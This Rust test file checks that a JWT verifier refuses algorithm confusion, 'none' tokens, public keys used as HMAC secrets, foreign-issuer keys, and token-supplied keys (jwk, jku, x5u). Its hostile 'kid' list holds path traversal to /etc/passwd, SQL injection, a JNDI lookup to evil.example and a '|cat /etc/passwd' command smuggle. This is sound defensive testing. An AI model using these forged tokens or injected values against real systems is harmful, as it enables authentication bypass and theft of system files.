//! Algorithm and key confusion (SPEC JW-1, JW-2; RFC 8725 §2.1, §3.1, §3.10).

use std::sync::Arc;

use bearward_testbed::SigningKey;
use serde_json::json;

use crate::scene::{ISSUERS, KINDS, Scene};

const NAMES: [&str; 3] = ["RS256", "ES256", "EdDSA"];

// SPEC JW-1
#[tokio::test]
async fn no_algorithm_can_be_passed_off_as_another() {
    let scene = Scene::new().await;
    let mut cases = Vec::new();
    let all = [
        "none", "None", "NONE", "nOnE", "", "HS256", "HS384", "HS512", "RS256", "RS384", "RS512", "PS256",
        "PS384", "PS512", "ES256", "ES256K", "ES384", "ES512", "EdDSA", "Ed25519", "Ed448", "RSA1_5",
        "RSA-OAEP", "dir", "A128KW", "rs256", " RS256", "RS256 ",
    ];
    for (kind, own) in NAMES.iter().enumerate() {
        for claimed in all {
            let is_own = claimed == *own || (*own == "EdDSA" && claimed == "Ed25519");
            if is_own {
                continue;
            }
            // The key that the id names is of another kind, or the algorithm is not accepted at all.
            let token = scene.of(0, kind).header("alg", claimed).build();
            cases.push((format!("{own} said to be {claimed:?}"), token, (401, "algorithm")));
        }
    }
    assert_eq!(scene.refuses(cases).await, 80);
}

// SPEC JW-1: the public key is no secret
#[tokio::test]
async fn a_public_key_is_never_taken_for_a_shared_secret() {
    let scene = Scene::new().await;
    let mut cases = Vec::new();
    for (kind, name) in NAMES.iter().enumerate() {
        for claimed in ["HS256", "HS384", "HS512"] {
            let token = scene.of(0, kind).signed_with_public_key_as_secret().header("alg", claimed).build();
            cases.push((format!("{name} key as {claimed} secret"), token, (401, "algorithm")));
        }
        let token = scene.of(0, kind).unsigned().build();
        cases.push((format!("{name} unsigned"), token, (401, "signature")));
    }
    scene.refuses(cases).await;
}

#[tokio::test]
async fn a_key_of_one_issuer_signs_nothing_for_another() {
    let scene = Scene::new().await;
    let mut cases = Vec::new();
    for kind in 0..KINDS.len() {
        for other in 0..KINDS.len() {
            // Signed by the other issuer's key, under its own id, and under the id of the issuer's key.
            let foreign = scene.key(1, other);
            let under_own_id =
                scene.of(0, kind).header("kid", foreign.kid()).header("alg", foreign.algorithm().name());
            let token = under_own_id.forged_with(foreign.clone()).build();
            cases.push((format!("foreign key {other}"), token, (401, "unknown_key")));
            if kind == other {
                let token = scene.of(0, kind).forged_with(foreign).build();
                cases.push((format!("foreign key {other} under the id of ours"), token, (401, "signature")));
            }
        }
        let without_id = scene.of(0, kind).forged_with(scene.key(1, kind)).without_header("kid").build();
        cases.push((format!("foreign key {kind} without an id"), without_id, (401, "signature")));
    }
    scene.refuses(cases).await;
    for issuer in 0..ISSUERS.len() {
        for kind in 0..KINDS.len() {
            assert_eq!(scene.present(&scene.of(issuer, kind).build()).await, None);
            assert_eq!(scene.present(&scene.of(issuer, kind).without_header("kid").build()).await, None);
        }
    }
}

// SPEC JW-2
#[tokio::test]
async fn a_key_id_is_a_name_and_nothing_else() {
    let scene = Scene::new().await;
    let hostile = [
        "../../../../dev/null",
        "/etc/passwd",
        "file:///etc/passwd",
        "' OR '1'='1",
        "one-2'; DROP TABLE keys; --",
        "one-2\u{0}",
        "one-2\n",
        "ONE-2",
        " one-2",
        "one-2 ",
        "one",
        "2",
        "*",
        "%",
        "one-_",
        "one-2/../one-2",
        "http://evil.example/keys",
        "${jndi:ldap://evil.example}",
        "|cat /etc/passwd",
        "\u{202e}one-2",
        "one\u{2d}\u{200b}2",
        &"a".repeat(4000),
    ];
    let case = |kid: &&str| {
        (format!("kid {kid:.40?}"), scene.good().header("kid", *kid).build(), (401, "unknown_key"))
    };
    let cases: Vec<_> = hostile.iter().map(case).collect();
    scene.refuses(cases).await;
    let odd = [json!(7), json!(null), json!(["one-2"]), json!({"kid": "one-2"}), json!(true)];
    let case = |kid: &serde_json::Value| {
        (format!("kid {kid}"), scene.good().header("kid", kid.clone()).build(), (401, "malformed"))
    };
    scene.refuses(odd.iter().map(case).collect()).await;
}

// RFC 8725 §3.10
#[tokio::test]
async fn a_token_that_brings_its_own_key_or_reading_is_refused() {
    let scene = Scene::new().await;
    let own = Arc::new(SigningKey::generate(KINDS[2]));
    let mut cases = Vec::new();
    for (member, value) in [
        ("jwk", own.public_jwk()),
        ("jku", json!("https://evil.example/keys.json")),
        ("jku", json!("http://127.0.0.1/keys.json")),
        ("x5u", json!("https://evil.example/cert.pem")),
        ("x5c", json!(["MIIB"])),
        ("crit", json!(["exp"])),
        ("crit", json!([])),
        ("crit", json!(["http://example.invalid/UNDEFINED"])),
        ("b64", json!(false)),
        ("b64", json!(true)),
    ] {
        let token = scene.good().header(member, value.clone()).forged_with(own.clone()).build();
        cases.push((format!("{member} {value}"), token, (401, "malformed")));
        let token = scene.good().header(member, value).build();
        cases.push((format!("{member}, signed by a key of ours"), token, (401, "malformed")));
    }
    scene.refuses(cases).await;
}
